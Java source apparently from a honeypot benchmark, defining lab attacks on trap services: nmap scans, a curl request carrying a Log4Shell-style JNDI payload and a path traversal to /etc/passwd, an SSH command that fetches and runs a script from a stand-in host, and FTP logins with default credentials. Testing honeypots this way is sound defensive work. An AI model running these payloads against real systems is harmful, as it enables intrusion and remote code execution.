// SPDX-License-Identifier: Apache-2.0
package io.honeymesh.bench;

import io.honeymesh.lab.Command;
import io.honeymesh.lab.Tools;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;

/** The demo's attackers. Each runs a program that attackers really use, as they would type it. */
final class Attacks {

    static final List<Tools.Tool> TOOLS =
            List.of(Tools.NMAP, Tools.SSH, Tools.SETSID, Tools.CURL, Tools.FTP, Tools.TAR);

    private static final Duration PATIENCE = Duration.ofSeconds(25);
    /** Below the threshold of the kernel's scan detection, the probe's own port included. */
    private static final int MAX_VERSION_PORTS = 6;

    private Attacks() {}

    static List<Attack> against(Stage stage) {
        List<Attack> all = new ArrayList<>();
        String target = stage.victim().ipv4();
        all.add(new Attack(
                "scan",
                "nmap -sS",
                false,
                Command.of("nmap", "-sS", "-Pn", "-n", "-T4", "--max-retries", "0", "-p", "1-100", target),
                PATIENCE));
        all.add(new Attack(
                "version",
                "nmap -sV",
                false,
                Command.of(
                        "nmap",
                        "-sV",
                        "-Pn",
                        "-n",
                        "-T4",
                        "--max-retries",
                        "1",
                        "--host-timeout",
                        "15s",
                        "-p",
                        stage.traps().keySet().stream()
                                .limit(MAX_VERSION_PORTS)
                                .map(String::valueOf)
                                .collect(Collectors.joining(",")),
                        target),
                PATIENCE));
        if (stage.hasTrap("ssh")) {
            all.add(ssh(stage, target));
        }
        if (stage.hasTrap("http")) {
            all.add(new Attack(
                    "web",
                    "curl",
                    false,
                    Command.of(
                            "curl",
                            "-sS",
                            "-m",
                            "8",
                            "--path-as-is",
                            "-A",
                            "${jndi:ldap://192.0.2.66/a}",
                            "http://" + target + ":" + stage.trapPort("http") + "/cgi-bin/../../../../etc/passwd"),
                    PATIENCE));
        }
        if (stage.hasTrap("ftp")) {
            all.add(ftp(stage, target));
        }
        all.add(new Attack(
                "sweep6",
                "nmap -6 -sT",
                true,
                Command.of(
                        "nmap",
                        "-6",
                        "-sT",
                        "-Pn",
                        "-n",
                        "-r",
                        "-T4",
                        "--max-retries",
                        "1",
                        "--host-timeout",
                        "15s",
                        "-p",
                        sweep(stage),
                        stage.victim().ipv6()),
                PATIENCE));
        return all;
    }

    /** A range that ends beyond the first traps, so that the sweep meets one early. */
    private static String sweep(Stage stage) {
        int first = stage.traps().keySet().iterator().next();
        return Math.max(1, first - 2) + "-" + Math.min(65535, first + 100);
    }

    private static Attack ssh(Stage stage, String target) {
        Command command = Login.command(
                stage.lab(),
                List.of("-o", "ConnectTimeout=8"),
                stage.trapPort("ssh"),
                target,
                "uname -a; wget http://192.0.2.66/x; sh x");
        return new Attack("ssh", "ssh with passwords", false, command, PATIENCE);
    }

    private static Attack ftp(Stage stage, String target) {
        String port = Integer.toString(stage.trapPort("ftp"));
        String client =
                Tools.FTP.path().map(path -> path.getFileName().toString()).orElseThrow();
        Command command = client.equals("lftp")
                ? Command.of(
                        "lftp",
                        "-c",
                        "set net:timeout 5; set net:max-retries 1; set ssl:verify-certificate no; open -u admin,admin -p "
                                + port + " " + target + "; ls; bye")
                : Command.of(client, "-n", "ftp://admin:admin@" + target + ":" + port + "/");
        return new Attack("ftp", client.equals("lftp") ? "lftp" : "ftp", false, command, PATIENCE);
    }
}
